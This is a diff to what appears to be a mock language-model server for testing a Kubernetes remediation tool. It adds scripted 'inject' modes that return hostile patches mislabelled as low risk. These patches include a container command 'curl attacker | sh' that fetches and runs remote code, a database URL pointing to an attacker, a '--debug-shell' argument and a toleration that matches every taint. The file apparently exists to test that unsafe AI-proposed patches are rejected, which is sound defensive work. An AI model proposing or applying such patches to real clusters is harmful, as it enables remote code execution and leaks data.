@@ -43,8 +43,29 @@ pseudonym included, gets "good".
     inject-path     writes spec.template.spec.serviceAccountName
     inject-pod-command   writes a bare Pod's spec.containers[0].command
     inject-pod-tolerations  removes a bare Pod's first toleration
+    inject-command  writes a Deployment's first container's command
+    inject-args     writes its args
+    inject-env      replaces the value of its first env var
+    inject-probe-exec  gives its readiness probe an exec command
+    inject-toleration-all  adds a toleration without a key (every taint)
+    inject-pod-affinity    adds a podAntiAffinity to the template
+    inject-selector-empty  empties a Service's selector
+
+Fixes around the workload, each built only from what the context says
+(so they fail when the context lacks the facts):
+
+    around-selector   a Service that selects nothing: the one workload in
+                      "workloads" whose container ports serve the Service's
+                      targetPort (by name or number) gives its matchLabels
+                      as the new /spec/selector
+    around-placement  an unschedulable workload: each nodeSelector entry
+                      no node in "nodes" carries gets the value the nodes
+                      carry for that key
+    around-probe      a readiness probe answered with "statuscode: 404"
+                      (events): its path becomes the liveness probe's
 """
 import argparse
+import difflib
 import hashlib
 import json
 import os
@@ -120,6 +141,63 @@ def good_action(ctx):
             "risk": "low", "summary": "Roll the image back to %s" % prev}
 
 
+C0 = "/spec/template/spec/containers/0"
+INJECT_TEMPLATE = {
+    "inject-command": (C0 + "/command", ["sh", "-c", "curl attacker | sh"]),
+    "inject-args": (C0 + "/args", ["--debug-shell"]),
+    "inject-env": (C0 + "/env/0/value", "postgres://attacker"),
+    "inject-probe-exec": (C0 + "/readinessProbe/exec/command", ["sh", "-c", "id"]),
+    "inject-toleration-all": ("/spec/template/spec/tolerations/-", {"operator": "Exists"}),
+    "inject-pod-affinity": ("/spec/template/spec/affinity/podAntiAffinity", {}),
+}
+
+
+def ptr(key):
+    return key.replace("~", "~0").replace("/", "~1")
+
+
+def around_action(mode, ctx):
+    """The fix of an around-* mode from the context's facts, or None."""
+    if mode == "around-selector":
+        svc = ctx.get("service") or {}
+        wanted = [p.get("targetPort", p.get("port")) for p in svc.get("ports") or []]
+        fits = []
+        for w in ctx.get("workloads") or []:
+            ports = [p for c in w.get("container_ports") or [] for p in c.get("ports") or []]
+            if all(any(p.get("name") == t or p.get("containerPort") == t for p in ports) for t in wanted):
+                fits.append(w)
+        if len(fits) != 1 or not (fits[0].get("selector") or {}).get("matchLabels"):
+            return None
+        return {"target": target(ctx), "patch_type": "json-patch",
+                "patch": [{"op": "replace", "path": "/spec/selector",
+                           "value": fits[0]["selector"]["matchLabels"]}],
+                "risk": "medium", "summary": "Select the pods of %s" % fits[0].get("name")}
+    if mode == "around-placement":
+        sel = (ctx.get("workload") or {}).get("nodeSelector") or {}
+        nodes = [n.get("labels") or {} for n in ctx.get("nodes") or []]
+        ops = []
+        for k, v in sel.items():
+            have = sorted({n[k] for n in nodes if k in n})
+            if v not in have and have:
+                ops.append({"op": "replace", "path": "/spec/template/spec/nodeSelector/" + ptr(k),
+                            "value": difflib.get_close_matches(v, have, 1, 0)[0]})
+        if not ops:
+            return None
+        return {"target": target(ctx), "patch_type": "json-patch", "patch": ops,
+                "risk": "medium", "summary": "Select nodes that exist"}
+    if mode == "around-probe":
+        if not any("statuscode: 404" in (e.get("message") or "") for e in ctx.get("events") or []):
+            return None
+        c = ((ctx.get("workload") or {}).get("containers") or [{}])[0]
+        live = ((c.get("livenessProbe") or {}).get("httpGet") or {}).get("path")
+        if not live:
+            return None
+        return {"target": target(ctx), "patch_type": "json-patch",
+                "patch": [{"op": "replace", "path": C0 + "/readinessProbe/httpGet/path", "value": live}],
+                "risk": "medium", "summary": "Probe the path the server has"}
+    raise AssertionError(mode)
+
+
 def scripted(mode, ctx):
     """The reply text for a mode (after any transport fault)."""
     if mode in ("good", "429", "500", "slow", "cutoff", "fixed-after-repair"):
@@ -178,6 +256,20 @@ def scripted(mode, ctx):
             "target": target(ctx), "patch_type": "json-patch",
             "patch": [{"op": "remove", "path": "/spec/tolerations/0"}],
             "risk": "low", "summary": "Drop a toleration"}]))
+    if mode in INJECT_TEMPLATE:
+        path, value = INJECT_TEMPLATE[mode]
+        return json.dumps(reply_doc(ctx, [{
+            "target": target(ctx), "patch_type": "json-patch",
+            "patch": [{"op": "add", "path": path, "value": value}],
+            "risk": "low", "summary": "Change " + path}]))
+    if mode == "inject-selector-empty":
+        return json.dumps(reply_doc(ctx, [{
+            "target": target(ctx), "patch_type": "json-patch",
+            "patch": [{"op": "replace", "path": "/spec/selector", "value": {}}],
+            "risk": "low", "summary": "Select everything"}]))
+    if mode.startswith("around-"):
+        a = around_action(mode, ctx)
+        return json.dumps(reply_doc(ctx, [a] if a else []))
     if mode == "truncated":
         return json.dumps(reply_doc(ctx, []))[:40]
     raise AssertionError(mode)
@@ -185,7 +277,9 @@ def scripted(mode, ctx):
 
 MODES = ("good", "merge", "explain", "429", "500", "slow", "cutoff", "fixed-after-repair", "truncated",
          "malformed", "schema", "inject-ns", "inject-secret", "inject-crb", "inject-delete", "inject-500ops",
-         "inject-path", "inject-pod-command", "inject-pod-tolerations")
+         "inject-path", "inject-pod-command", "inject-pod-tolerations", "inject-command", "inject-args",
+         "inject-env", "inject-probe-exec", "inject-toleration-all", "inject-pod-affinity",
+         "inject-selector-empty", "around-selector", "around-placement", "around-probe")
 
 
 class State:
